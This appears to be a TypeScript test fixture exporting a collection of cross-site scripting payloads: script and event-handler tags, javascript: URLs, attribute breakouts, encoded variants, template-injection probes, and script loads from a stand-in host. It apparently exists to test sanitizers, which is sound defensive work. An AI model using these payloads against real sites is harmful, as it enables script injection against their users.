/** @module Texts that would run if a page took them for markup. Each is valid as it stands: nothing in it is cleaned away. */

const CALL = 'alert(1)'

const TAGS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//x.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<iframe src=javascript:${CALL}></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`,
  `<a href=javascript:${CALL}>klik</a>`,
  `<a href="java&#115;cript:${CALL}">klik</a>`,
  `<form action=javascript:${CALL}><button>kirim</button></form>`,
  `<button formaction=javascript:${CALL}>kirim</button>`,
  `<base href=//x.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//x.example/x.css>`,
  `<style>@import '//x.example/x.css'</style>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<textarea><script>${CALL}</script></textarea>`,
  `</textarea><script>${CALL}</script>`,
  `</li></ol></div><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `<!--<script>${CALL}//-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><x onload=${CALL}/>`,
]

const HANDLERS =
  'abort animationend beforeinput blur cancel canplay change click close contextmenu copy cut dblclick drag drop ended error focus focusin input invalid keydown keyup load loadstart mousedown mousemove mouseover paste pointerdown play reset resize scroll search select submit toggle touchstart transitionend wheel'
    .split(' ')
    .map((name) => `<img src=x tabindex=1 autofocus on${name}=${CALL}>`)

const BREAKS = [
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onfocus=${CALL} autofocus="`,
  `' onfocus=${CALL} autofocus='`,
  `\` onfocus=${CALL} autofocus=\``,
  `\\"-${CALL}-\\"`,
  `';${CALL};//`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}`,
  `＜script＞${CALL}＜/script＞`,
  'data: <li>palsu</li>',
  'id: 999999',
  'event: append',
  'baris satu\n\nevent: append\ndata: <img src=x onerror=alert(1)>',
]

const TEMPLATES = [
  '{{7*7}}',
  `{{constructor.constructor('${CALL}')()}}`,
  '\u0024{7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{fact_telepon_darurat}',
  '{count, plural, one {x} other {y}}',
  '[[\u0024{7*7}]]',
  '*{7*7}',
]

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'data',
  'file',
  'blob',
  'view-source',
  'jar',
  'intent',
  'tel',
].map((scheme) => `${scheme}:${CALL}`)

const SIGNS = [
  'kiri\u202ekanan\u202c',
  'tanpa\u200blebar\u200d',
  'awal\ufeffakhir',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '＂＞＜',
  '𝒿𝒶𝓋𝒶𝓈𝒸𝓇𝒾𝓅𝓉:',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
]

const SLUGS = [
  '<b',
  '<x y=z',
  '<>',
  '</>',
  '&amp;',
  '&',
  '<',
  '>',
  '"',
  "'",
  '`',
  '\\',
  '//',
  '/*',
  '*/',
  '--',
  '<!--',
  ']]>',
  '?>',
  '%00',
  '\\0',
]

export const XSS: readonly string[] = [
  ...TAGS,
  ...HANDLERS,
  ...BREAKS,
  ...TEMPLATES,
  ...SCHEMES,
  ...SIGNS,
  ...SLUGS,
]
